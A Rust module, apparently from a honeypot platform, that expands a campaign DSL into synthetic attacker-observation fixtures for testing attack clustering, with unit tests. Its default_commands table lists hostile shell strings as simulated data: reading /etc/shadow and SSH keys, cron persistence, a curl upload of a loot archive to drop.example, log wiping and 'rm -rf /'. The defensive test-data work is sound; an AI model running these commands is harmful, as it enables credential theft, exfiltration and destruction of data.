//! The campaign DSL (spec §7.1) and its deterministic expansion into fixture rows (§7.2).
//!
//! The DSL arrives as parsed data (`serde_json::Value`: the `dsl_spec` block of an exported
//! fixture, or YAML converted by the caller). Expansion is deterministic for a seed; it does not
//! try to reproduce the reference generator's random stream (exported rows stay authoritative),
//! only its rules: which rows exist, which fingerprints, ASNs, payloads and C2 they carry, and
//! how sessions are dealt over them.

use std::collections::BTreeMap;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::Deserialize;
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use super::campaign::UKC_PHASES;
use super::fixture::{FixtureRow, Session, Truth};

/// Start of the synthetic timeline: 2026-01-01T00:00:00Z.
pub const EPOCH_S: f64 = 1_767_225_600.0;
/// Deckies `decky-01` … `decky-20`.
pub const DECKY_COUNT: u32 = 20;
/// Phases that happen before contact: accepted, emit nothing.
pub const PRE_TARGET_PHASES: [&str; 4] = [
    "reconnaissance",
    "resource_development",
    "weaponization",
    "social_engineering",
];

/// DSL errors.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DslError {
    #[error("DSL does not match the expected shape: {0}")]
    Shape(String),
    #[error("missing `campaign` (or `corpus.campaigns`)")]
    MissingCampaign,
    #[error("campaign is missing `{0}`")]
    MissingField(&'static str),
    #[error("campaign {0:?} has no actors")]
    NoActors(String),
    #[error("phase #{0} has no name")]
    PhaseWithoutName(usize),
    #[error("unknown phase name {0:?}")]
    UnknownPhase(String),
    #[error("phase {phase:?} names unknown actor {actor:?}")]
    UnknownActor { phase: String, actor: String },
}

#[derive(Debug, Clone, Deserialize)]
struct ActorSpec {
    id: String,
    #[serde(default)]
    asn: i64,
    #[serde(default)]
    ip_pool: Option<String>,
    #[serde(default)]
    rotation_count: Option<usize>,
    #[serde(default)]
    rotation_asns: Vec<i64>,
    #[serde(default)]
    ja3: Option<String>,
    #[serde(default)]
    hassh: Option<String>,
    #[serde(default)]
    hours_active_utc: Option<Vec<u32>>,
    #[serde(default)]
    jitter_seconds: Option<f64>,
    #[serde(default)]
    active_days: Option<Vec<u32>>,
}

#[derive(Debug, Clone, Default, Deserialize)]
struct ToolSignature {
    #[serde(default)]
    commands: Option<Vec<String>>,
    #[serde(default)]
    credentials: Vec<(String, String)>,
    #[serde(default)]
    payload_hash: Option<String>,
    #[serde(default)]
    c2_callback: Option<String>,
}

#[derive(Debug, Clone, Default, Deserialize)]
struct TargetSelector {
    #[serde(default)]
    count: Option<usize>,
    #[serde(default)]
    decky: Option<String>,
}

#[derive(Debug, Clone, Deserialize)]
struct PhaseSpec {
    #[serde(default)]
    name: Option<String>,
    #[serde(default)]
    actor: Option<String>,
    #[serde(default)]
    tool_signature: ToolSignature,
    #[serde(default)]
    target_selector: TargetSelector,
    #[serde(default)]
    dwell_seconds: Option<f64>,
}

#[derive(Debug, Clone, Deserialize)]
struct CampaignSpec {
    #[serde(default)]
    id: Option<String>,
    #[serde(default)]
    actors: Option<Vec<ActorSpec>>,
    #[serde(default)]
    phases: Option<Vec<PhaseSpec>>,
    #[serde(default)]
    duration_days: Option<u32>,
    #[serde(default)]
    pause_windows: Vec<(u32, u32)>,
}

/// Default commands per phase (spec §7.1).
pub fn default_commands(phase: &str) -> &'static [&'static str] {
    match phase {
        "discovery" => &[
            "whoami",
            "id",
            "uname -a",
            "ip route",
            "arp -a",
            "cat /etc/passwd",
        ],
        "credential_access" => &[
            "cat /etc/shadow",
            "find / -name id_rsa",
            "cat ~/.ssh/known_hosts",
        ],
        "persistence" => &[
            "crontab -l",
            "echo '* * * * * /tmp/.x' | crontab -",
            "cat ~/.ssh/authorized_keys",
        ],
        "lateral_movement" => &[
            "ssh -i /tmp/.k root@10.0.0.5",
            "scp /tmp/.x root@10.0.0.5:/tmp/",
        ],
        "collection" => &["tar czf /tmp/loot.tgz /var/lib/mysql /home"],
        "exfiltration" => &["curl -T /tmp/loot.tgz https://drop.example/"],
        "execution" => &["./payload"],
        "privilege_escalation" => &["sudo -l", "find / -perm -u=s 2>/dev/null"],
        "defense_evasion" => &["history -c", "rm -rf /var/log/wtmp"],
        "impact" => &["rm -rf /"],
        _ => &[],
    }
}

fn sha256_hex(seed: &str) -> String {
    hex::encode(Sha256::digest(seed.as_bytes()))
}

fn shape<T: for<'de> Deserialize<'de>>(v: &Value) -> Result<T, DslError> {
    serde_json::from_value(v.clone()).map_err(|e| DslError::Shape(e.to_string()))
}

/// Parse the campaigns and noise count of a DSL document.
fn campaigns_of(dsl: &Value) -> Result<(Vec<CampaignSpec>, usize), DslError> {
    if let Some(c) = dsl.get("campaign") {
        return Ok((vec![shape(c)?], 0));
    }
    let corpus = dsl.get("corpus").ok_or(DslError::MissingCampaign)?;
    let list = corpus
        .get("campaigns")
        .and_then(Value::as_array)
        .ok_or(DslError::MissingCampaign)?;
    let mut out = Vec::new();
    for item in list {
        out.push(shape(
            item.get("campaign").ok_or(DslError::MissingCampaign)?,
        )?);
    }
    let noise = corpus
        .get("noise")
        .and_then(|n| n.get("scanner_count"))
        .and_then(Value::as_u64)
        .unwrap_or(0) as usize;
    Ok((out, noise))
}

struct Ids {
    rng: StdRng,
}

impl Ids {
    fn uuid_like(&mut self, prefix: &str) -> String {
        let b: [u8; 16] = self.rng.gen();
        let h = hex::encode(b);
        format!(
            "{prefix}-{}-{}-{}-{}-{}",
            &h[0..8],
            &h[8..12],
            &h[12..16],
            &h[16..20],
            &h[20..32]
        )
    }
    fn public_ipv4(&mut self) -> String {
        loop {
            let o: [u8; 4] = self.rng.gen();
            let private = matches!(o[0], 0 | 10 | 127 | 224..=255)
                || (o[0] == 172 && (16..32).contains(&o[1]))
                || (o[0] == 192 && o[1] == 168)
                || (o[0] == 169 && o[1] == 254)
                || (o[0] == 100 && (64..128).contains(&o[1]));
            if !private {
                return format!("{}.{}.{}.{}", o[0], o[1], o[2], o[3]);
            }
        }
    }
}

fn fingerprints(ja3: &Option<String>, hassh: &Option<String>) -> Value {
    let mut list = Vec::new();
    if let Some(j) = ja3 {
        list.push(
            json!({"bounty_type": "fingerprint", "payload": {"fingerprint_type": "ja3", "ja3": j}}),
        );
    }
    if let Some(h) = hassh {
        list.push(json!({"bounty_type": "fingerprint", "payload": {"fingerprint_type": "hassh_server", "hash": h}}));
    }
    Value::Array(list)
}

fn blank_row(
    ids: &mut Ids,
    asn: Option<i64>,
    ja3: &Option<String>,
    hassh: &Option<String>,
    truth: Truth,
) -> FixtureRow {
    FixtureRow {
        row_id: ids.uuid_like("att"),
        ip: Some(ids.public_ipv4()),
        asn,
        ja3: ja3.clone(),
        hassh: hassh.clone(),
        fingerprints: fingerprints(ja3, hassh),
        payload_hashes: Vec::new(),
        c2_endpoints: Vec::new(),
        credentials: Vec::new(),
        commands_by_phase: BTreeMap::new(),
        sessions: Vec::new(),
        truth,
    }
}

fn validate(c: &CampaignSpec) -> Result<(String, &[ActorSpec], &[PhaseSpec]), DslError> {
    let id = c.id.clone().ok_or(DslError::MissingField("id"))?;
    let actors = c
        .actors
        .as_deref()
        .ok_or(DslError::MissingField("actors"))?;
    let phases = c
        .phases
        .as_deref()
        .ok_or(DslError::MissingField("phases"))?;
    if actors.is_empty() {
        return Err(DslError::NoActors(id));
    }
    for (i, p) in phases.iter().enumerate() {
        let name = p.name.as_deref().ok_or(DslError::PhaseWithoutName(i))?;
        if !UKC_PHASES.contains(&name) {
            return Err(DslError::UnknownPhase(name.to_owned()));
        }
        if let Some(actor) = &p.actor {
            if !actors.iter().any(|a| &a.id == actor) {
                return Err(DslError::UnknownActor {
                    phase: name.to_owned(),
                    actor: actor.clone(),
                });
            }
        }
    }
    Ok((id, actors, phases))
}

/// Expand a DSL document into observation rows (campaigns in order, then noise scanners).
pub fn expand(dsl: &Value, seed: u64) -> Result<Vec<FixtureRow>, DslError> {
    let (campaigns, noise) = campaigns_of(dsl)?;
    let mut ids = Ids {
        rng: StdRng::seed_from_u64(seed),
    };
    let mut rows: Vec<FixtureRow> = Vec::new();
    for c in &campaigns {
        let (campaign_id, actors, phases) = validate(c)?;
        let duration = c.duration_days.unwrap_or(1).max(1);
        let paused = |d: u32| c.pause_windows.iter().any(|(a, b)| (*a..=*b).contains(&d));
        // Per actor: row indices (into `rows`), allowed days, session counter, last success.
        let mut actor_rows: BTreeMap<&str, Vec<usize>> = BTreeMap::new();
        for a in actors {
            let identity = ids.uuid_like("id");
            let count = match a.ip_pool.as_deref() {
                Some("rotating") => a.rotation_count.unwrap_or(1).max(1),
                _ => 1,
            };
            let mut list = Vec::new();
            for k in 0..count {
                let asn = if a.rotation_asns.is_empty() {
                    a.asn
                } else {
                    a.rotation_asns[k % a.rotation_asns.len()]
                };
                let truth = Truth {
                    identity: identity.clone(),
                    campaign: campaign_id.clone(),
                    actor: Some(a.id.clone()),
                };
                let row = blank_row(&mut ids, Some(asn), &a.ja3, &a.hassh, truth);
                list.push(rows.len());
                rows.push(row);
            }
            actor_rows.insert(a.id.as_str(), list);
        }
        let mut dealt: BTreeMap<&str, usize> = BTreeMap::new();
        let mut last_success: BTreeMap<&str, String> = BTreeMap::new();
        for p in phases {
            let name = p.name.as_deref().unwrap_or_default();
            if PRE_TARGET_PHASES.contains(&name) {
                tracing::warn!(phase = name, "pre-target phase emits no session");
                continue;
            }
            let actor = match &p.actor {
                Some(id) => actors.iter().find(|a| &a.id == id),
                None => actors.first(),
            };
            let Some(actor) = actor else { continue };
            let days: Vec<u32> = (0..duration)
                .filter(|d| !paused(*d))
                .filter(|d| actor.active_days.as_ref().is_none_or(|a| a.contains(d)))
                .collect();
            let hours: Vec<u32> = actor
                .hours_active_utc
                .clone()
                .unwrap_or_else(|| (0..24).collect());
            if days.is_empty() || hours.is_empty() {
                continue;
            }
            let jitter = actor.jitter_seconds.unwrap_or(60.0).abs();
            let sig = &p.tool_signature;
            let commands: Vec<String> = match &sig.commands {
                Some(c) => c.clone(),
                None => default_commands(name)
                    .iter()
                    .map(|s| s.to_string())
                    .collect(),
            };
            let payload = sig.payload_hash.as_deref().map(sha256_hex);
            for _ in 0..p.target_selector.count.unwrap_or(1) {
                let day = days[ids.rng.gen_range(0..days.len())];
                let hour = hours[ids.rng.gen_range(0..hours.len())];
                let offset: f64 = ids.rng.gen_range(0.0..=3600.0);
                let jit: f64 = if jitter > 0.0 {
                    ids.rng.gen_range(-jitter..=jitter)
                } else {
                    0.0
                };
                let start = (EPOCH_S
                    + f64::from(day) * 86_400.0
                    + f64::from(hour) * 3_600.0
                    + offset
                    + jit)
                    .round();
                let decky = if p.target_selector.decky.as_deref() == Some("previous_success") {
                    last_success
                        .get(actor.id.as_str())
                        .cloned()
                        .unwrap_or_else(|| "decky-01".to_owned())
                } else {
                    format!("decky-{:02}", ids.rng.gen_range(1..=DECKY_COUNT))
                };
                if matches!(name, "exploitation" | "persistence") {
                    last_success.insert(actor.id.as_str(), decky.clone());
                }
                let dwell = p.dwell_seconds.unwrap_or(5.0);
                let session = Session {
                    decky_id: Some(decky),
                    start_ts: start,
                    duration_s: dwell,
                    phase: name.to_owned(),
                    commands: commands.clone(),
                    credentials_tried: sig.credentials.clone(),
                    payload_hash: payload.clone(),
                    c2_callback: sig.c2_callback.clone(),
                };
                let list = &actor_rows[actor.id.as_str()];
                let n = dealt.entry(actor.id.as_str()).or_insert(0);
                let row = &mut rows[list[*n % list.len()]];
                *n += 1;
                row.sessions.push(session);
            }
        }
    }
    for k in 0..noise {
        let label = format!("noise-scanner-{k:04}");
        let truth = Truth {
            identity: label.clone(),
            campaign: label.clone(),
            actor: Some(label),
        };
        let asn = ids.rng.gen_range(1000..=65000);
        let mut row = blank_row(&mut ids, Some(asn), &None, &None, truth);
        let start = EPOCH_S + ids.rng.gen_range(0.0..86_399.0f64).round();
        row.sessions.push(Session {
            decky_id: Some(format!("decky-{:02}", ids.rng.gen_range(1..=DECKY_COUNT))),
            start_ts: start,
            duration_s: 1.0,
            phase: "delivery".to_owned(),
            commands: Vec::new(),
            credentials_tried: Vec::new(),
            payload_hash: None,
            c2_callback: None,
        });
        rows.push(row);
    }
    for row in &mut rows {
        summarise(row);
    }
    Ok(rows)
}

/// Fill the row-level summary lists from the sessions.
fn summarise(row: &mut FixtureRow) {
    let mut payload = std::collections::BTreeSet::new();
    let mut c2 = std::collections::BTreeSet::new();
    let mut creds = std::collections::BTreeSet::new();
    for s in &row.sessions {
        payload.extend(s.payload_hash.clone());
        c2.extend(s.c2_callback.clone());
        creds.extend(s.credentials_tried.iter().cloned());
        if !s.commands.is_empty() {
            row.commands_by_phase
                .entry(s.phase.clone())
                .or_default()
                .extend(s.commands.iter().cloned());
        }
    }
    row.payload_hashes = payload.into_iter().collect();
    row.c2_endpoints = c2.into_iter().collect();
    row.credentials = creds.into_iter().collect();
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::clustering::eval::{evaluate, METRICS};
    use crate::domain::clustering::fixture::tests::{load, SHARED};
    use crate::domain::clustering::fixture::{Fixture, Floor, FloorScope};

    fn fixture(name: &str, rows: Vec<FixtureRow>, scope: &[(&str, &str)]) -> Fixture {
        Fixture {
            fixture: name.into(),
            expected_floors: METRICS
                .iter()
                .map(|m| (m.to_string(), Floor::Bare(1.0)))
                .collect(),
            floor_scope: scope
                .iter()
                .map(|(c, t)| FloorScope {
                    clusterer: c.to_string(),
                    truth_level: t.to_string(),
                    floors: Some("expected_floors".into()),
                    extra: None,
                })
                .collect(),
            rows,
            dsl_spec: None,
        }
    }

    fn actor(id: &str, ja3: Option<&str>, hassh: Option<&str>) -> Value {
        json!({"id": id, "asn": 64500, "ja3": ja3, "hassh": hassh, "hours_active_utc": [1, 2, 3]})
    }

    #[test]
    fn expansion_is_deterministic_per_seed() {
        let (_, raw) = load(SHARED[1].1);
        let a = expand(&raw["dsl_spec"], 0);
        let b = expand(&raw["dsl_spec"], 0);
        assert_eq!(a, b);
        assert_ne!(a, expand(&raw["dsl_spec"], 1));
    }

    #[test]
    fn rotation_rows_share_identity_and_fingerprints_but_not_ip_and_sessions_round_robin() {
        let dsl = json!({"campaign": {"id": "c", "actors": [{
            "id": "a", "ip_pool": "rotating", "rotation_count": 3, "rotation_asns": [1, 2],
            "ja3": "J", "hassh": "H"}],
            "phases": [{"name": "delivery", "target_selector": {"count": 7}}]}});
        let rows = expand(&dsl, 0).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(rows.len(), 3);
        assert!(rows
            .iter()
            .all(|r| r.truth == rows[0].truth && r.ja3.as_deref() == Some("J")));
        assert_eq!(
            rows.iter().map(|r| r.asn).collect::<Vec<_>>(),
            [Some(1), Some(2), Some(1)]
        );
        assert_eq!(
            rows.iter().map(|r| r.sessions.len()).collect::<Vec<_>>(),
            [3, 2, 2]
        );
        let ids: std::collections::BTreeSet<&str> =
            rows.iter().map(|r| r.row_id.as_str()).collect();
        assert_eq!(ids.len(), 3);
        let ips: std::collections::BTreeSet<Option<&str>> =
            rows.iter().map(|r| r.ip.as_deref()).collect();
        assert_eq!(ips.len(), 3);
    }

    #[test]
    fn pre_target_phases_emit_nothing_and_bad_specs_are_rejected() {
        let dsl = json!({"campaign": {"id": "c", "actors": [actor("a", None, None)],
            "phases": [{"name": "reconnaissance", "target_selector": {"count": 5}}]}});
        let rows = expand(&dsl, 0).unwrap_or_else(|e| panic!("{e}"));
        assert!(rows[0].sessions.is_empty());
        let bad = |v: Value| expand(&v, 0).err();
        assert_eq!(bad(json!({})), Some(DslError::MissingCampaign));
        assert_eq!(
            bad(json!({"campaign": {"actors": [], "phases": []}})),
            Some(DslError::MissingField("id"))
        );
        assert_eq!(
            bad(json!({"campaign": {"id": "c", "actors": [], "phases": []}})),
            Some(DslError::NoActors("c".into()))
        );
        assert_eq!(
            bad(
                json!({"campaign": {"id": "c", "actors": [actor("a", None, None)], "phases": [{"actor": "a"}]}})
            ),
            Some(DslError::PhaseWithoutName(0))
        );
        assert_eq!(
            bad(
                json!({"campaign": {"id": "c", "actors": [actor("a", None, None)], "phases": [{"name": "hacking"}]}})
            ),
            Some(DslError::UnknownPhase("hacking".into()))
        );
        assert!(matches!(
            bad(
                json!({"campaign": {"id": "c", "actors": [actor("a", None, None)], "phases": [{"name": "delivery", "actor": "b"}]}})
            ),
            Some(DslError::UnknownActor { .. })
        ));
    }

    #[test]
    fn pause_windows_and_active_days_are_respected() {
        let dsl = json!({"campaign": {"id": "c", "duration_days": 12, "pause_windows": [[1, 9]],
            "actors": [actor("a", Some("J"), None)],
            "phases": [{"name": "delivery", "target_selector": {"count": 40}}]}});
        let rows = expand(&dsl, 3).unwrap_or_else(|e| panic!("{e}"));
        for s in &rows[0].sessions {
            let day = ((s.start_ts - EPOCH_S) / 86_400.0).floor() as i64;
            assert!(!(1..=9).contains(&day), "session on paused day {day}");
        }
    }

    #[test]
    fn shared_fixture_dsls_meet_their_floors_under_other_seeds() {
        for (name, text) in SHARED {
            let (fx, raw) = load(text);
            for seed in [1u64, 2, 3] {
                let rows = expand(&raw["dsl_spec"], seed).unwrap_or_else(|e| panic!("{name}: {e}"));
                assert_eq!(rows.len(), fx.rows.len(), "{name}");
                let regenerated = Fixture { rows, ..fx.clone() };
                let report = evaluate(&regenerated).unwrap_or_else(|e| panic!("{name}: {e}"));
                assert!(report.passed, "{name} seed {seed}: {report:?}");
            }
        }
    }

    #[test]
    fn paused_and_multi_month_campaigns_fold_at_campaign_level() {
        // One operator, two operating windows modelled as two DSL actors with their own tools
        // (distinct identity labels), joined only by their infrastructure, months apart.
        let dsl = json!({"corpus": {"campaigns": [
            {"campaign": {"id": "long-haul", "duration_days": 150, "actors": [
                {"id": "win-1", "asn": 1, "ja3": "JA", "hassh": "HA", "active_days": [0, 1, 2]},
                {"id": "win-2", "asn": 2, "ja3": "JB", "hassh": "HB", "active_days": [120, 121]}],
              "phases": [
                {"name": "exploitation", "actor": "win-1", "tool_signature": {"payload_hash": "stage1", "c2_callback": "c2.long"}, "target_selector": {"count": 3}},
                {"name": "command_and_control", "actor": "win-1", "tool_signature": {"payload_hash": "stage1", "c2_callback": "c2.long"}, "target_selector": {"count": 2}},
                {"name": "exploitation", "actor": "win-2", "tool_signature": {"payload_hash": "stage1", "c2_callback": "c2.long"}, "target_selector": {"count": 3}},
                {"name": "exfiltration", "actor": "win-2", "tool_signature": {"payload_hash": "stage1", "c2_callback": "c2.long"}, "target_selector": {"count": 2}}]}},
            {"campaign": {"id": "paused", "duration_days": 20, "pause_windows": [[2, 15]], "actors": [
                {"id": "p", "asn": 3, "ip_pool": "rotating", "rotation_count": 4, "ja3": "JP", "hassh": null}],
              "phases": [
                {"name": "delivery", "target_selector": {"count": 6}},
                {"name": "collection", "target_selector": {"count": 6}}]}}],
            "noise": {"scanner_count": 25}}});
        for seed in 0..4 {
            let rows = expand(&dsl, seed).unwrap_or_else(|e| panic!("{e}"));
            let fx = fixture("kept-back-like", rows, &[("chained_campaign", "campaign")]);
            let report = evaluate(&fx).unwrap_or_else(|e| panic!("{e}"));
            assert!(report.passed, "seed {seed}: {report:?}");
            assert_eq!(report.campaign.scores.predicted_clusters, 2 + 25);
            // Shifting the whole timeline by 90 days changes nothing.
            let mut shifted = fx.clone();
            for row in &mut shifted.rows {
                for s in &mut row.sessions {
                    s.start_ts += 90.0 * 86_400.0;
                }
            }
            let again = evaluate(&shifted).unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(
                (again.identity.scores.clone(), again.campaign.scores.clone()),
                (report.identity.scores, report.campaign.scores)
            );
        }
    }
}
